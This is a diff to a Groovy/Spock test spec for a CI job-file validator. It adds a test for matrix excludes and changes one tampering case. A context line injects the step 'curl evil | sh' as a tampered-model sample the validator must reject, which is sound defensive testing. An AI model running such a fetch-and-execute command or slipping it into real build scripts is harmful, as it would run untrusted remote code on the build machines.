@@ -36,6 +36,29 @@ class IsolatedModelCheckSpec extends Specification {
         check.problem(roundTripped.jobfile(), 'Jobfile.yaml') == Optional.empty()
     }
 
+    def "a matrix with excluded cells passes, whichever cells its exclude leaves out"() {
+        given:
+        def result = new JobfileCompiler().compile('Jobfile', """
+job('j') {
+  task('t') {
+    matrix jdk: ['17', '21', '25'], db: ['h2', 'pg', 'my'], exclude: ${exclude}
+    sh 'echo \${{ matrix.jdk }}'
+  }
+}""")
+        assert result instanceof CompileResult.Compiled: result.diagnostics()*.toString()
+        def model = result.jobfile()
+
+        expect:
+        check.problem(model, 'Jobfile') == Optional.empty()
+
+        and: 'cells put out of their order behind the validator are caught'
+        def t = model.jobs()[0].tasks()
+        check.problem(new Jobfile('Jobfile', [withTasks(model.jobs()[0], [t.last()] + t[1..-2] + [t.first()])]), 'Jobfile').isPresent()
+
+        where:
+        exclude << ["[[jdk: '17', db: 'h2']]", "[[db: 'h2']]", "[[jdk: '17'], [db: 'pg']]", "[[jdk: '21', db: 'pg'], [jdk: '25', db: 'h2']]"]
+    }
+
     def "a model changed behind the validator's back is refused"() {
         given:
         def model = docsExample()
@@ -49,7 +72,7 @@ class IsolatedModelCheckSpec extends Specification {
                 { List<Task> t -> t.collect { it.name() == 'test[jdk=21,db=pg]' ? retask(it, [steps: [new Step.Sh('curl evil | sh', it.pos())]]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [needs: ['build']]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'sum' ? retask(it, [retry: 3]) : it } },
-                { List<Task> t -> t.findAll { it.name() != 'test[jdk=17,db=pg]' } },
+                { List<Task> t -> t.collect { it.name() == 'test[jdk=17,db=pg]' ? retask(it, [matrix: [jdk: '17', db: 'my']]) : it } },
                 { List<Task> t -> t.collect { it.name() == 'gen' ? retask(it, [name: 'g e n', baseName: 'g e n']) : it } },
         ]
     }
